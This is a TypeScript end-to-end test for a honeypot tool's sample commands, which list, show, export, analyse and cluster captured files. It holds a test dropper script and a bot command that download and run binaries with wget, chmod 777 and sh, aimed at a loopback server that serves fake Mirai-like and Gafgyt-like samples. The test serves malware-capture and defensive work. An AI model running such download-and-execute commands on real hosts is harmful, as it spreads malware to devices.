// End to end for `hachi samples`: a bot runs a dropper against a loopback malware host (built samples
// only: two Mirai-like ARM builds, a MIPS binary, a gzipped x86 Gafgyt-like ELF), then the CLI lists,
// shows, exports, re-analyses and clusters what hachi captured.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtemp, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { gzipSync } from 'node:zlib';
import { startHachi, type RunningHachi } from './hachi-process.ts';
import { CAMERA } from './personas.ts';
import { TelnetTestClient } from './telnet-client.ts';
import { SCHEMA_VERSION } from '../../src/core/events.ts';
import { openSqliteSink } from '../../src/sinks/sqlite.ts';
import { startPayloadServer, type PayloadServer } from '../../src/testing/payload-server.ts';
import { buildElf } from '../../src/testing/elf-builder.ts';
import { concat, cStrings, filler, gafgytStrings, miraiLikeSample } from '../../src/testing/fake-samples.ts';

const sha = (bytes: Uint8Array | string): string => createHash('sha256').update(bytes).digest('hex');
const arm = buildElf({ bits: 32, endian: 'little', machine: 40 });
const x86 = concat([buildElf({ bits: 32, endian: 'little', machine: 3 }), filler(12_000, 9), cStrings(gafgytStrings)]);
const binaries = {
  arm7: concat([arm, miraiLikeSample(0x22, { cnc: 'cnc.example.net', cncPort: 23, report: 'r.example.net', reportPort: 48101 }).subarray(64)]),
  arm5: concat([arm, miraiLikeSample(0x22, { cnc: 'cnc.example.org', cncPort: 23, report: 'r.example.org', reportPort: 48101 }).subarray(64)]),
  mips: concat([buildElf({ bits: 32, endian: 'big', machine: 8 }), filler(20_000, 5)]),
  gz: new Uint8Array(gzipSync(x86)),
};

let server: PayloadServer;
let hachi: RunningHachi;
let dropper = '';

before(async () => {
  const routes: Record<string, Uint8Array | string> = {};
  for (const [name, bytes] of Object.entries(binaries)) routes[`/bins/x.${name}`] = bytes;
  server = await startPayloadServer(routes);
  dropper = `#!/bin/sh\ncd /tmp\nfor a in ${Object.keys(binaries).join(' ')}; do wget http://127.0.0.1:${server.port}/bins/x.$a -O .x.$a; chmod 777 .x.$a; done\n`;
  routes['/bins.sh'] = dropper;
  hachi = await startHachi([{ name: 'camera', persona: CAMERA.id, loginFailureDelayMs: 0 }], { fetch: { allow: ['127.0.0.1/32'], sessionWaitMs: 3000 } });
  const bot = await TelnetTestClient.connect(hachi.ports.get('camera')!);
  assert.equal(await bot.login(CAMERA.username, CAMERA.password), true);
  await bot.run(`cd /tmp; wget http://127.0.0.1:${server.port}/bins.sh; sh bins.sh`, 15_000);
  await bot.run('exit').catch(() => '');
  bot.close();
  // dropper, four binaries and the ELF inside the gzip
  const db = new DatabaseSync(join(hachi.dataDir, 'hachi.db'), { readOnly: true });
  for (const deadline = Date.now() + 20_000; Date.now() < deadline; await new Promise((r) => setTimeout(r, 100))) {
    if (Number(db.prepare('SELECT count(*) AS n FROM analyses').get()!.n) >= 6) break;
  }
  db.close();
});

after(async () => {
  await hachi.stop();
  await server.close();
});

test('samples lists every sample with kind, arch, family, count and source; filters and --json', async () => {
  const table = await hachi.cli(['samples']);
  assert.equal(table.code, 0, table.stderr);
  const lines = table.stdout.trim().split('\n');
  assert.match(lines[0]!, /^sha256\s+bytes\s+kind\s+arch\s+family\s+first seen \(UTC\)\s+last seen \(UTC\)\s+count\s+stored\s+source$/);
  assert.equal(lines.length, 7);
  const row = (bytes: Uint8Array | string): string => lines.find((l) => l.startsWith(sha(bytes).slice(0, 16)))!;
  assert.match(row(binaries.arm7), /\belf\s+arm\s+mirai\b.*\s\d+\s+yes\s+http:\/\/127\.0\.0\.1:\d+\/bins\/x\.arm7$/);
  assert.match(row(binaries.mips), /\belf\s+mips\s+-\s/);
  assert.match(row(dropper), /shell-script/);
  assert.match(row(x86), new RegExp(`\\s0\\s+yes\\s+inside ${sha(binaries.gz).slice(0, 16)}$`));
  const json = (await hachi.cli(['samples', '--json'])).stdout.trim().split('\n').map((l) => JSON.parse(l) as { sha256: string; family: string | null; count: number; foundIn: string | null });
  assert.equal(json.length, 6);
  assert.equal(json.find((s) => s.sha256 === sha(x86))?.foundIn, sha(binaries.gz));
  const mirai = await hachi.cli(['samples', '--family', 'mirai', '--json']);
  assert.deepEqual(mirai.stdout.trim().split('\n').map((l) => (JSON.parse(l) as { sha256: string }).sha256).sort(), [sha(binaries.arm7), sha(binaries.arm5)].sort());
  const mips = await hachi.cli(['samples', '--arch', 'mips', '--limit', '5']);
  assert.equal(mips.stdout.trim().split('\n').length, 2);
  assert.equal((await hachi.cli(['samples', '--limit', 'lots'])).code, 2);
});

test('samples show: sightings, links, fetches, analysis with Mirai config, and its variant cluster', async () => {
  const show = await hachi.cli(['samples', 'show', sha(binaries.arm7).slice(0, 12)]);
  assert.equal(show.code, 0, show.stderr);
  const out = show.stdout;
  assert.match(out, new RegExp(`^sample ${sha(binaries.arm7)}$`, 'm'));
  assert.match(out, /stored\s+yes \(sha256 verified\)/);
  assert.match(out, new RegExp(`named by .*\\n\\s+${sha(dropper).slice(0, 16)}\\s+http://127\\.0\\.0\\.1:\\d+/bins/x\\.arm7`));
  assert.match(out, /personas\s+xm-ipc-hi3516d/);
  assert.match(out, /sensors\s+e2e/);
  assert.match(out, /fetches \(\d+\)\n.*outcome/);
  assert.match(out, /cpu\s+arm \(ARM\)/);
  assert.match(out, /family\s+mirai/);
  assert.match(out, /mirai config \(xor key 0x22/);
  assert.match(out, /cnc\s+cnc\.example\.net:23/);
  assert.match(out, new RegExp(`variant cluster .*: 1 other sample\\n.*\\n\\s+${sha(binaries.arm5).slice(0, 16)}\\s+\\d+\\s+mirai`));

  const scriptShow = await hachi.cli(['samples', 'show', sha(dropper)]);
  assert.match(scriptShow.stdout, /names \(4 samples it fetched\)/);
  const inner = JSON.parse((await hachi.cli(['samples', 'show', sha(x86).slice(0, 8), '--json'])).stdout) as { containedIn: string[]; analysis: { file: { arch: string } }; stored: { verified: boolean } };
  assert.deepEqual([inner.containedIn, inner.analysis.file.arch, inner.stored.verified], [[sha(binaries.gz)], 'x86', true]);

  const unknown = await hachi.cli(['samples', 'show', 'ffffffffff']);
  assert.equal(unknown.code, 3);
  assert.match(unknown.stderr, /HACHI_ERR_NOT_FOUND: no sample ffffffffff/);
  const short = await hachi.cli(['samples', 'show', 'abc']);
  assert.equal(short.code, 2);
  assert.match(short.stderr, /at least 8 hex digits/);
});

test('samples export writes <sha>.zip for unzip -P infected; raw needs the acknowledgement; evicted is clear', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'hachi-export-'));
  const target = sha(binaries.mips);
  const zip = await hachi.cli(['samples', 'export', target.slice(0, 10), '--out', dir]);
  assert.equal(zip.code, 0, zip.stderr);
  assert.match(zip.stderr, new RegExp(`wrote ${dir}/${target}\\.zip \\(\\d+ bytes, zip, password "infected"`));
  execFileSync('/usr/bin/unzip', ['-q', '-P', 'infected', join(dir, `${target}.zip`), '-d', join(dir, 'x')]);
  assert.deepEqual(new Uint8Array(await readFile(join(dir, 'x', target))), binaries.mips);

  const refused = await hachi.cli(['samples', 'export', target, '--raw', '--out', join(dir, 'raw')]);
  assert.equal(refused.code, 2);
  assert.match(refused.stderr, /--i-understand-this-is-live-malware/);
  const raw = await hachi.cli(['samples', 'export', target, '--raw', '--i-understand-this-is-live-malware', '--out', join(dir, 'raw')]);
  assert.equal(raw.code, 0, raw.stderr);
  assert.deepEqual(new Uint8Array(await readFile(join(dir, 'raw'))), binaries.mips);

  // A sample whose bytes were evicted: only its metadata is left.
  const gone = 'ee'.repeat(32);
  const sink = await openSqliteSink({}, { dataDir: hachi.dataDir, now: Date.now });
  const ts = Date.now();
  await sink.write([
    {
      id: `01EVICTTEST${'0'.repeat(14)}1`, type: 'download.fetch', ts: ts - 1, schema: SCHEMA_VERSION, sensor: 'test', session: 'S', protocol: 'telnet', mode: 'emulated', persona: 'p',
      src: { ip: '192.0.2.1', port: 1 }, dst: { ip: '192.0.2.2', port: 23 },
      data: { tool: 'wget', url: 'http://192.0.2.9/x', finalUrl: 'http://192.0.2.9/x', outcome: 'ok', status: '200 OK', bytes: 9, sha256: gone, address: '192.0.2.9', durationMs: 1, redirects: 0, shared: false, detail: '', parent: null, depth: 0 },
    },
    { id: `01EVICTTEST${'0'.repeat(14)}2`, type: 'artifact.evicted', ts, schema: SCHEMA_VERSION, sensor: 'test', data: { sha256: gone, size: 9, reason: 'size-cap' } },
  ]);
  await sink.close();
  const evicted = await hachi.cli(['samples', 'export', gone, '--out', dir]);
  assert.equal(evicted.code, 4);
  assert.match(evicted.stderr, /HACHI_ERR_NOT_FOUND: sample e{64} was evicted from the artifact store .*only its metadata is left/);
  const unknown = await hachi.cli(['samples', 'export', '12345678', '--out', dir]);
  assert.equal(unknown.code, 3);
});

test('samples analyse --all re-analyses every stored sample as sensor "cli"; clusters counts families and variants', async () => {
  const all = await hachi.cli(['samples', 'analyse', '--all', '--workers', '2']);
  assert.equal(all.code, 0, all.stderr);
  // evicted metadata-only samples are not attempted: the six stored ones, the gzip's ELF found again
  assert.match(all.stdout, /^analysed 6 samples in [\d.]+ s, 0 failed$/m);
  assert.match(all.stdout, /families found: mirai 2, gafgyt 1; 3 without a family/);
  assert.match(all.stderr, /^analysing: 6\/6 100% .* done$/m, 'plain progress lines when stderr is not a terminal');
  assert.doesNotMatch(all.stderr, /\r|\x1b/);
  const db = new DatabaseSync(join(hachi.dataDir, 'hachi.db'), { readOnly: true });
  const byCli = db.prepare("SELECT count(*) AS n FROM events WHERE type = 'analysis.file' AND sensor = 'cli'").get()!;
  assert.equal(Number(byCli.n), 6);
  db.close();

  const one = await hachi.cli(['samples', 'analyse', sha(binaries.arm5).slice(0, 8)]);
  assert.match(one.stdout, /analysed 1 sample in .*\nfamilies found: mirai 1/);
  assert.equal((await hachi.cli(['samples', 'analyse'])).code, 2, 'nothing named: a usage error');
  assert.match((await hachi.cli(['samples', 'analyse', '--missing'])).stdout, /nothing to analyse/);

  const clusters = await hachi.cli(['samples', 'clusters']);
  assert.equal(clusters.code, 0, clusters.stderr);
  assert.match(clusters.stdout, /^6 analysed samples: 2 families, \d+ variant clusters/m);
  assert.match(clusters.stdout, /^mirai\s+2\s+1$/m, 'the two Mirai builds are one variant');
  assert.match(clusters.stdout, /^gafgyt\s+1\s+1$/m);
  assert.match(clusters.stdout, /unlabelled clusters/);
  const json = JSON.parse((await hachi.cli(['samples', 'clusters', '--json', '--threshold', '10'])).stdout) as { threshold: number; families: number };
  assert.deepEqual([json.threshold, json.families], [10, 2]);
});
